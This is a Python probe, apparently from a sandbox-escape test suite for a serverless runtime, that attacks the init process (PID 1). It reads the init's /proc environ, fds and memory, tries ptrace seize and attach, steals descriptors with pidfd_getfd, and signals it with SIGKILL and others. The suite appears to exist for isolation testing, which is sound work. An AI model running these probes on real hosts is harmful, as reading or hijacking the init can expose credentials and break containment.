# Attacks the init (PID 1), which serves the Runtime API and reports to the host:
# reads its environ, fds and memory, ptraces it (in a child that exits at once,
# so a successful seize detaches again), steals its fds with pidfd_getfd, and
# signals it.
import os
import signal
import time

from escape_lib import attempt, in_child, read_text, syscall

PTRACE_ATTACH = 16
PTRACE_DETACH = 17
PTRACE_SEIZE = 0x4206
__WALL = 0x40000000


def attach():
    # An attach that gets through stops the init: wait for that stop and detach, so a
    # vulnerable env reports success instead of hanging until its timeout.
    r = syscall('ptrace', PTRACE_ATTACH, 1, 0, 0)
    if r['ret'] == 0:
        os.waitpid(1, __WALL)
        syscall('ptrace', PTRACE_DETACH, 1, 0, 0)
    return r


def handler(event, context):
    what = event['what']
    if what == 'read':
        return {
            'environ': attempt(lambda: len(read_text('/proc/1/environ'))),
            'fd': attempt(lambda: os.listdir('/proc/1/fd')),
            'memRead': attempt(lambda: os.close(os.open('/proc/1/mem', os.O_RDONLY))),
            'memWrite': attempt(lambda: os.close(os.open('/proc/1/mem', os.O_RDWR))),
        }
    if what == 'ptrace':
        return {
            'seize': in_child(lambda: syscall('ptrace', PTRACE_SEIZE, 1, 0, 0)),
            'attach': in_child(attach),
        }
    if what == 'pidfd_getfd':
        def steal():
            pidfd = syscall('pidfd_open', 1, 0)
            if pidfd['ret'] < 0:
                return {'pidfd_open': pidfd}
            got = [syscall('pidfd_getfd', pidfd['ret'], fd, 0) for fd in range(0, 8)]
            return {'pidfd_open': 'ok', 'getfd': got}
        return in_child(steal)
    if what == 'kill':
        out = {}
        for name in ('SIGTERM', 'SIGKILL', 'SIGSTOP', 'SIGINT'):
            out[name] = attempt(lambda: os.kill(1, getattr(signal, name)))
        time.sleep(0.2)
        out['initAlive'] = os.path.exists('/proc/1/status') and 'State:\tT' not in read_text('/proc/1/status')
        return out
    raise ValueError(what)
